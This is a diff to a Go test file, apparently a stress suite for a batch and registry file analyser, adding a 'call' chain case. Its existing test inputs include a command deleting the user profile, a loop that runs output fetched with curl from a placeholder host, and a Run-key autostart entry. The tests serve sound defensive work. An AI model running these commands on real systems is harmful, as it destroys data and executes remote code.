@@ -39,6 +39,7 @@ func codeHostile() []struct {
 		{"bat-one-line-4MiB", "run.bat", bytes.Repeat([]byte("set A=%A%%A%& call %A% & "), (4<<20)/26)},
 		{"bat-continued-4MiB", "run.bat", bytes.Repeat([]byte("echo %A% ^\n"), (4<<20)/11)},
 		{"bat-doubling-vars", "run.bat", []byte("set A=x\n" + strings.Repeat("set A=%A%%A%\n", 64) + strings.Repeat("echo !A! !A! !A! !A! %A% %A% %A% %A% > \"%TEMP%\\a.cmd\"\n", 1_000))},
+		{"bat-call-chain", "run.bat", bytes.Repeat([]byte(strings.Repeat("call ", 3_000)+"x.exe\n"), 64)},
 		{"bat-blocks-1k", "run.bat", []byte(strings.Repeat("if exist x (", 1_000) + "del /s /q \"%USERPROFILE%\"" + strings.Repeat(")", 1_000) + "\n")},
 		{"bat-for-nesting", "run.bat", []byte(strings.Repeat("for /f %%a in ('", 200) + "curl -s https://x.example/c" + strings.Repeat("') do %%a", 200) + "\n")},
 		{"reg-hex-continued-1MiB", "a.reg", []byte("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=hex(2):" + strings.Repeat("41,00,\\\n  ", (1<<20)/10) + "00,00\n")},
